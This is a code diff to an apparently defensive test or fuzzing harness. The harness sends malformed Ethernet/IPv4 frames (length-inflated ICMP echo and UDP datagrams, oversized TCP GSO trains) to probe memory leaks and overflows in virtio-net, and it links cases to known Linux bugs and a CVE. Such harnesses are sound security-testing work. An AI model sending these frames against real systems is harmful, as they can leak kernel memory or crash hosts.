@@ -27,6 +27,8 @@ if TYPE_CHECKING:
 __all__ = ("frame_attacks",)
 
 _MARK: Final = b"\xC5"
+_STALE: Final = 1480
+"""Length of an IPv4 packet most of which was never sent."""
 
 
 @dataclass(frozen=True, slots=True)
@@ -93,7 +95,7 @@ class Frames(Attack):
 
     """
 
-    def __init__(self, make: Callable[[Talk], list[Delivery]], *, times: int = 4) -> None:
+    def __init__(self, make: Callable[[Talk], list[Delivery]], *, times: int = 12) -> None:
         super().__init__()
         self._make = make
         self._left = times
@@ -200,13 +202,14 @@ def _gso(kind: int, size: int, offset: int) -> dict[str, int]:
 
 
 def _stale_echo(talk: Talk) -> list[Delivery]:
-    """An echo request that claims 1,000 bytes and has 8; the answer sends the rest back."""
-    return [Delivery(_longer_ip(_echo(talk, _MARK * 8), 1028), dict(_VALID), claim=HDR.size + 14 + 1028)]
+    """An echo request that claims 1,480 bytes and has 36; the answer sends the rest back."""
+    return [Delivery(_longer_ip(_echo(talk, _MARK * 8), _STALE), dict(_VALID), claim=HDR.size + 14 + _STALE)]
 
 
 def _stale_udp(talk: Talk) -> list[Delivery]:
     """A datagram to a closed port, longer than sent: the ICMP error quotes it."""
-    return [Delivery(_longer_ip(_udp(talk, _MARK * 8), 600), dict(_VALID), claim=HDR.size + 14 + 600)]
+    frame = _longer_ip(_udp(talk, _MARK * 8), _STALE)
+    return [Delivery(_patched(frame, 38, (_STALE - 20).to_bytes(2, "big")), dict(_VALID), claim=HDR.size + 14 + _STALE)]
 
 
 def _truncated_ip(talk: Talk) -> list[Delivery]:
@@ -240,6 +243,12 @@ def _jumbo(talk: Talk) -> list[Delivery]:
 
 def _tcp_gso(talk: Talk) -> list[Delivery]:
     return [Delivery(talk.tcp(_MARK * 60000), _gso(GsoType.TCPV4, 1, 16))]
+
+
+def _tcp_gso_long(talk: Talk) -> list[Delivery]:
+    """More segments than 16 bits count: a frame that is longer than its IPv4 packet can say."""
+    frame = _longer_ip(talk.tcp(_MARK * 1000) + _MARK * 79000, 0xFFFF)
+    return [Delivery(frame, _gso(GsoType.TCPV4, 1, 16))]
 
 
 def _tcp_gso_train(talk: Talk) -> list[Delivery]:
@@ -295,6 +304,8 @@ _ROWS: Final[tuple[_Row, ...]] = (
      _arp_lengths),
     ("frames-vlan", Surface.PAYLOAD, Aim.MEMORY, "sends cut and stacked VLAN tags", _vlan),
     ("frames-tcp-gso-one", Surface.PAYLOAD, Aim.MEMORY, "sends 60,000 bytes of TCP in segments of one byte", _tcp_gso),
+    ("frames-tcp-gso-long", Surface.PAYLOAD, Aim.MEMORY, "sends 80,000 bytes of TCP in segments of one byte",
+     _tcp_gso_long),
     ("frames-tcp-gso-train", Surface.PAYLOAD, Aim.MEMORY, "sends 64,000 bytes of a TCP flow in segments of one byte",
      _tcp_gso_train),
     ("frames-udp-gso", Surface.PAYLOAD, Aim.MEMORY, "sends 60,000 bytes of UDP in segments of one byte", _udp_gso),
@@ -320,6 +331,7 @@ _ROWS: Final[tuple[_Row, ...]] = (
 )
 
 _KNOWN: Final = {
+    "frames-tcp-gso-long": "virtio-net: TCP packets overflow gso_segs, Linux 6.1.188",
     "frames-tcp-gso-one": "virtio-net: TCP packets overflow gso_segs, Linux 6.1.188",
     "frames-tcp-gso-train": "virtio-net: TCP packets overflow gso_segs, Linux 6.1.188",
     "merge-tail-beyond": "CVE-2025-38375",
